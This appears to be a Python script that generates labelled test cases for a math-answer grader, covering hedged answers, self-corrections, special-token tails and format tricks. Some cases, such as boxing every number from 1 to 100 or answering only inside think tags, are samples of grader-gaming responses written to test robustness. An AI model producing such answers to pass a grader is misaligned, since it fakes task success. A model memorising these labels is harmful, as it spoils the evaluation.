    ("words-number", "The answer is seven.", "7", True),
    ("unit-after-box", "The side is $\\boxed{5}$ cm.", "5 \\text{ cm}", True),
    ("box-after-equals", "$x = \\boxed{7}$", "7", True),
    ("display-half-open", "$$\\boxed{\\left[ -2, 3 \\right)}$$", "[-2,3)", True),
    ("rationalized", "Answer: $\\frac{\\sqrt{2}}{2}$", "\\frac{1}{\\sqrt{2}}", True),
    ("gsm8k-comma", "#### 1,000", "1000", True),
    ("terminating-decimal-for-fraction", "The answer is: 0.75", "\\frac34", True),
    ("set-builder-for-ray", "$\\boxed{\\{x \\mid x > 0\\}}$", "(0,\\infty)", True),
    (
        "periodic-family",
        "$\\boxed{k\\pi + \\frac{\\pi}{6},\\ k \\in \\mathbb{Z}}$",
        "\\frac{\\pi}{6} + n\\pi",
        True,
    ),
    ("fraction-for-negative-decimal", "The answer is $-\\frac{1}{2}$.", "-0.5", True),
    ("commuted-sum", "$\\boxed{\\frac{b+a}{2}}$", "\\frac{a+b}{2}", True),
    ("unsimplified-radical", "$\\boxed{\\sqrt{18}}$", "3\\sqrt{2}", True),
    ("commuted-equation", "$\\boxed{y^2 + x^2 = 25}$", "x^2+y^2=25", True),
)


LOOKS_LIKE_CODE = (
    ("product-of-letters-call", "$\\boxed{abc(a+b+c)}$", "a^2bc+ab^2c+abc^2"),
    ("product-of-three-letters-call", "The answer is $xyz(x+y+z)$.", "x^2yz+xy^2z+xyz^2"),
    ("plain-atan", "Answer: atan(2)", "\\arctan 2"),
    ("plain-sqrt", "Answer: sqrt(3)/2", "\\frac{\\sqrt{3}}{2}"),
    ("plain-log10", "The answer is log10(1000) = 3.", "3"),
    ("cosec", "$\\boxed{\\operatorname{cosec} x}$", "\\csc x"),
    ("backtick-number", "The answer is `42`.", "42"),
    ("backtick-equation", "**Final answer:** `x = 5`", "5"),
    ("lambda-set-builder", "$\\boxed{\\{\\lambda : \\lambda > 2\\}}$", "(2,\\infty)"),
    ("unbraced-subscript-name", "Answer: v_max = 12 m/s", "12"),
    ("braced-subscript-name", "Answer: $v_{max} = 12$ m/s", "12"),
    ("abbreviated-unit", "The area is $\\boxed{120 \\text{ sq.ft}}$.", "120"),
    ("derivative-prime", "$\\boxed{f'(2) = 12}$", "12"),
    ("operatorname-call", "$\\boxed{\\operatorname{lcm}(4,6) = 12}$", "12"),
    ("probability-of-event", "$\\boxed{P(A \\cap B) = 0.12}$", "0.12"),
    ("primed-pair", "$\\boxed{(x', y') = (1, 2)}$", "(1,2)"),
    ("unit-with-slash", "$\\boxed{12 \\text{ km/hr}}$", "12"),
    (
        "sum-equals-closed-form",
        "$\\boxed{\\sum_{k=1}^{n} k = \\frac{n(n+1)}{2}}$",
        "\\frac{n(n+1)}{2}",
    ),
    ("indexed-roots", "The answer is $x_1 = 2, x_2 = 3$.", "2, 3"),
)


def math_that_looks_like_code() -> list[Case]:
    writer = Writer("math_looks_like_code")
    for slug, tail, gold in LOOKS_LIKE_CODE:
        writer.tail(slug, tail, gold, True)
    return writer.cases


def unusual_forms() -> list[Case]:
    writer = Writer("unusual_form")
    for slug, tail, gold, label in UNUSUAL_TAILS:
        writer.tail(slug, tail, gold, label)
    return writer.cases


SPECIAL_TOKENS = ("<|im_end|>", "<|eot_id|>", "</s>", "<|endoftext|>", "<|end|>", "<eos>")


def special_tokens() -> list[Case]:
    writer = Writer("special_token_tail")
    for token in SPECIAL_TOKENS:
        name = _slug(token)
        writer.tail(f"gsm8k-{name}", f"#### 72{token}", "72", True)
        writer.tail(f"phrase-{name}", f"The answer is 72.{token}", "72", True)
    writer.tail("boxed-newline-eot", "$\\boxed{72}$\n<|eot_id|>", "72", True)
    writer.tail("chat-template-wrapped", "#### 72<|im_end|>\n<|endoftext|>", "72", True)
    writer.tail("wrong-with-token", "#### 71<|im_end|>", "72", False)
    writer.tail("wrong-phrase-with-token", "The answer is 27.</s>", "72", False)
    writer.tail("token-between-digits", "#### 7<|im_end|>2", "72", False)
    return writer.cases


# Other hedges: several values, ranges, "or possibly", and self-corrections.

OTHER_HEDGES = (
    (
        "conditional-boxes",
        "If $n$ is even the answer is $\\boxed{3}$; if $n$ is odd it is $\\boxed{4}$.",
        "3",
    ),
    ("adjacent-boxes", "$\\boxed{3}, \\boxed{4}$", "3"),
    ("three-boxes", "$\\boxed{3}$ $\\boxed{4}$ $\\boxed{5}$", "4"),
    ("boxes-with-or", "$\\boxed{3}$ or $\\boxed{4}$", "4"),
    ("x-equals-or", "$\\boxed{x = 3 \\text{ or } x = 4}$", "3"),
    ("x-equals-or-phrase", "The answer is $x = 3$ or $x = 4$.", "3"),
    ("x-equals-or-gold-with-variable", "$\\boxed{x=3 \\text{ or } x=4}$", "x=3"),
    ("between", "The answer is between 3 and 4.", "3"),
    ("between-boxed", "$\\boxed{\\text{between } 3 \\text{ and } 4}$", "4"),
    ("or-possibly", "$\\boxed{3}$ (or possibly 4)", "3"),
    ("or-possibly-inside-box", "$\\boxed{3 \\text{ (or possibly } 4)}$", "3"),
    ("boxed-or", "$\\boxed{3 \\text{ or } 4}$", "3"),
    ("bare-or", "3 or 4", "4"),
    ("boxed-list-for-scalar", "$\\boxed{3, 4}$", "3"),
    ("boxed-set-for-scalar", "$\\boxed{\\{3, 4\\}}$", "3"),
    ("plus-minus-hedge", "$\\boxed{3 \\pm 1}$", "4"),
    ("not-sure", "The answer is 3 or 4, I'm not sure.", "3"),
    ("alternatively", "The answer is 3. Alternatively, it could be 4.", "3"),
    ("final-but-also", "Final answer: 3 (but 4 is also possible)", "3"),
    ("hmm-or-maybe-box", "$\\boxed{3}$\n\nHmm, or maybe $\\boxed{4}$.", "3"),
    ("at-least", "The answer is at least 3.", "3"),
    ("geq-box", "$\\boxed{\\geq 3}$", "3"),
    ("lor-box", "$\\boxed{3 \\lor 4}$", "3"),
    ("en-dash-range", "$\\boxed{3\\text{--}4}$", "3"),
    ("interval-for-scalar", "$\\boxed{[3, 4]}$", "3"),
    ("and-or", "$\\boxed{3 \\text{ and/or } 4}$", "3"),
    ("one-of-many", "The answer is one of $1, 2, 3, 4, 5$.", "3"),
    (
        "single-box-caveat",
        "It is 3 if we count the endpoints and 4 otherwise, so $\\boxed{3}$.",
        "3",
    ),
    ("wait-actually-other", "$\\boxed{3}$\n\nWait, actually it's 5.", "3"),
    ("no-wait-recompute", "The answer is 3. No wait, let me recompute: the answer is 5.", "3"),
    (
        "wrong-then-right-box",
        "$\\boxed{3}$. Hmm, that's wrong; the correct answer is $\\boxed{5}$.",
        "3",
    ),
    ("answer-then-actually", "Answer: 3... actually, 5.", "3"),
    ("or-maybe-box-gold-last", "$\\boxed{3}$\n\nHmm, or maybe $\\boxed{4}$.", "4"),
    (
        "alternatively-box-gold-last",
        "One reading gives $\\boxed{3}$. Alternatively, $\\boxed{4}$.",
        "4",
    ),
    (
        "either-box-gold-last",
        "It is either $\\boxed{3}$ or, if the endpoints count, $\\boxed{4}$.",
        "4",
    ),
)

SELF_CORRECTIONS = (
    ("wait-actually-gold", "$\\boxed{3}$\n\nWait, actually it's 5.", "5"),
    ("no-wait-recompute-gold", "The answer is 3. No wait, let me recompute: the answer is 5.", "5"),
    (
        "wrong-then-right-box-gold",
        "$\\boxed{3}$. Hmm, that's wrong; the correct answer is $\\boxed{5}$.",
        "5",
    ),
    ("answer-then-actually-gold", "Answer: 3... actually, 5.", "5"),
    (
        "struck-then-final",
        "I first got $\\boxed{3}$, but I dropped a sign. Redoing it:\n\nFinal answer: $\\boxed{5}$",
        "5",
    ),
)


def other_hedges() -> list[Case]:
    writer = Writer("other_hedge")
    for slug, tail, gold in OTHER_HEDGES:
        writer.tail(slug, tail, gold, False)
    for slug, tail, gold in SELF_CORRECTIONS:
        writer.tail(slug, tail, gold, True)
    return writer.cases


def format_tricks() -> list[Case]:
    writer = Writer("format_trick")
    thought = writer.reasoning()
    writer.whole(
        "answer-only-inside-think",
        f"<think>{thought}\n\nThe answer is $\\boxed{{42}}$.</think>",
        "42",
        False,
    )
    writer.whole(
        "answer-inside-think-then-filler",
        f"<think>{thought}\n\nSo $\\boxed{{42}}$.</think>\n\nI hope this helps!",
        "42",
        False,
    )
    writer.whole(
        "unclosed-think", f"<think>{thought}\n\nThe answer is $\\boxed{{42}}$.", "42", False
    )
    writer.whole("unclosed-think-gsm8k", f"<think>{thought}\n\n#### 42", "42", False)
    writer.whole(
        "think-then-answer",
        f"<think>{thought}</think>\n\nThe answer is $\\boxed{{42}}$.",
        "42",
        True,
    )
    writer.whole(
        "think-wrong-then-right",
        f"<think>{thought} I think it is 41.</think>\n\nThe answer is $\\boxed{{42}}$.",
        "42",
        True,
    )
    writer.whole(
        "think-right-then-wrong",
        f"<think>{thought} It is $\\boxed{{42}}$.</think>\n\nThe answer is $\\boxed{{41}}$.",
        "42",
        False,
    )
    writer.tail("same-box-1000-times", "$\\boxed{42}$ " * 1000, "42", True)
    writer.tail("same-phrase-1000-times", "The answer is 42. " * 1000, "42", True)
    writer.tail("alternating-boxes-500-times", "$\\boxed{41}$ $\\boxed{42}$ " * 500, "42", False)
    writer.tail(
        "every-number-boxed", ", ".join(f"$\\boxed{{{n}}}$" for n in range(1, 101)), "42", False
    )
    writer.tail(
        "every-number-listed",
        "The answer is one of: " + ", ".join(map(str, range(1, 101))) + ".",
        "42",
        False,
    )
    writer.tail(
        "every-number-in-one-box",
        "$\\boxed{" + ", ".join(map(str, range(1, 101))) + "}$",
        "42",
        False,
    )
    writer.tail("trailing-whitespace", "$\\boxed{42}$" + " " * 100_000, "42", True)
    writer.tail("trailing-newlines", "The answer is 42." + "\n" * 50_000, "42", True)
    writer.whole(
        "leading-whitespace", " " * 100_000 + writer.reasoning() + "\n\n$\\boxed{42}$", "42", True
    )
    writer.tail(
        "long-reasoning-then-box", writer.reasoning() * 300 + "\n\n$\\boxed{42}$", "42", True
    )
    writer.tail("negated-box-only", "The answer is not $\\boxed{42}$.", "42", False)
    writer.tail(
        "empty-box-instruction", "Please put your final answer in $\\boxed{}$.", "42", False
    )
    writer.whole("empty-response", "", "42", False)
    writer.tail("refusal", "I cannot determine the answer from the information given.", "42", False)
    return writer.cases


CLASSES: tuple[Callable[[], list[Case]], ...] = (
    multiple_choice_hedges,
    multiple_choice_single,
    multiple_choice_sets,
    rounding_exact_golds,
    rounding_decimal_golds,
    tiny_perturbations,
    identities,
    code_in_answer,
    ordered_unordered,
    percent,
    intervals_vs_sets,
    unusual_forms,
    math_that_looks_like_code,
    special_tokens,
    other_hedges,
    format_tricks,
)


def all_cases() -> list[Case]:
    cases = [case for make in CLASSES for case in make()]
    ids = [case.id for case in cases]
    duplicates = sorted({i for i in ids if ids.count(i) > 1})
    if duplicates:
        raise SystemExit(f"duplicate ids: {duplicates}")
    return cases


def main() -> int:
    cases = all_cases()
    with OUTPUT.open("w", encoding="utf-8") as out:
        for case in cases:
            row = asdict(case)
            row["class"] = row.pop("cls")
            row = {key: row[key] for key in ("id", "class", "response", "gold", "label")}
            out.write(json.dumps(row, ensure_ascii=False) + "\n")
    true = sum(case.label for case in cases)
    print(f"wrote {len(cases)} cases ({true} true, {len(cases) - true} false) to {OUTPUT}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
